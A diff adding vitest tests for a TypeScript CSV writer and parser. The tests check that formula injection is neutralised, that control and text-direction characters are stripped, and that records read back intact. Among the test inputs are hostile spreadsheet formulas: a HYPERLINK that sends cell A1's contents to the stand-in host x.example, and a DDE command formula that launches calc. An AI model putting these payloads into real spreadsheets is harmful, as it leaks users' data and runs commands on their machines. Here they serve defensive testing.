@@ -1,0 +1,105 @@
+import { describe, expect, it } from 'vitest'
+import { csvRecord, inert, parseCsv } from './csv.ts'
+
+const csvLine = (cells: readonly string[], separator: ',' | ';') =>
+  csvRecord(cells.map(inert), separator)
+
+/** What a reader of the file gets for one cell. */
+const cell = (value: string) => parseCsv(csvLine([value, 'end'], ','))[0]?.cells[0]
+
+// What a spreadsheet skips before it looks for a formula, and the characters that begin one.
+const formula = /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u
+
+describe('a line for a spreadsheet', () => {
+  it.each([
+    ['Þóra Ægisdóttir', 'Þóra Ægisdóttir'],
+    ['a,b;c"d"\'e', 'a,b;c"d"\'e'],
+    ['Fyrsta\nÖnnur', 'Fyrsta\nÖnnur'],
+    ['Fyrsta\r\nÖnnur\rÞriðja', 'Fyrsta\nÖnnur\nÞriðja'],
+    [' space around ', ' space around '],
+    ['1.000 - 2.000', '1.000 - 2.000'],
+    ['', ''],
+    ['👩‍👩‍👧 ok', '👩‍👩‍👧 ok'],
+    ['+354 555 0000', "'+354 555 0000"],
+  ])('%j reads back as %j', (value, expected) => {
+    expect(cell(value)).toBe(expected)
+  })
+
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '＝1',
+    '＋1',
+    '－1',
+    '＠x',
+    '   =1',
+    '\u00a0=1',
+    '\ufeff=1',
+    '\u0000=1',
+    '\u0007\u001b=1',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '\u202e=1',
+    '=HYPERLINK("https://x.example?a="&A1,"smelltu")',
+    "=cmd|' /C calc'!A0",
+  ])('%j is no formula', (value) => {
+    expect(cell(value)).not.toMatch(formula)
+    expect(cell(value)?.replaceAll("'", '')).toContain(value.trim().slice(-1))
+  })
+
+  it('begins no cell with a tab', () => {
+    expect(cell('\tx')).toBe("'\tx")
+  })
+
+  it.each([',', ';', '\t'])(
+    'starts no formula for a spreadsheet that parts cells at %j',
+    (other) => {
+      const attack = ['a', 'b'].map((it) => `${it}${other} =1+1\n-2+3${other}@x`)
+      for (const separator of [',', ';'] as const) {
+        const cells = csvLine(['+', ...attack, '"=1'], separator)
+          .split(/\r\n|\n/)
+          .flatMap((line) => line.split(other))
+        expect(cells.filter((each) => formula.test(each))).toEqual([])
+      }
+    },
+  )
+
+  it('leaves out control characters and what turns the direction of text', () => {
+    const left = cell(`a\u0000b\u001b[31mc\u0085d\u202ee\u2066f\u2028g\ufffeh\ud800i\tj`)
+    expect(left).toBe('ab[31mcdefghi\tj')
+  })
+})
+
+describe('parseCsv', () => {
+  it.each([
+    ['a,b\r\nc,d\r\n', ['1: a|b', '2: c|d']],
+    ['a;b\n1,5;2', ['1: a|b', '2: 1,5|2']],
+    ['a\tb,c\tx\n', ['1: a|b,c|x']],
+    ['"x,y";b', ['1: x,y|b']],
+    ['a,b\n"1\n2\r\n3",x\n\n,\n', ['1: a|b', '2: 1\n2\r\n3|x', '6: |']],
+    ['', []],
+  ])('%j', (text, expected) => {
+    expect(parseCsv(text).map(({ cells, line }) => `${line}: ${cells.join('|')}`)).toEqual(expected)
+  })
+
+  it.each([
+    ['a\nb,"c', 2],
+    ['a\n"b"c\n', 2],
+  ])('%j is none, for line %i', (text, line) => {
+    expect(() => parseCsv(text)).toThrow(expect.objectContaining({ line }))
+  })
+
+  it('reads back what csvRecord writes', () => {
+    const given = ['', ' a', 'b"c', '\n', '\r\n', '=1;2,3\t', 'Þ', '\r', '"']
+    for (const separator of [',', ';'] as const) {
+      const head = csvRecord(
+        given.map((_, index) => `c${index}`),
+        separator,
+      )
+      expect(parseCsv(head + csvRecord(given, separator))[1]?.cells).toEqual(given)
+    }
+  })
+})
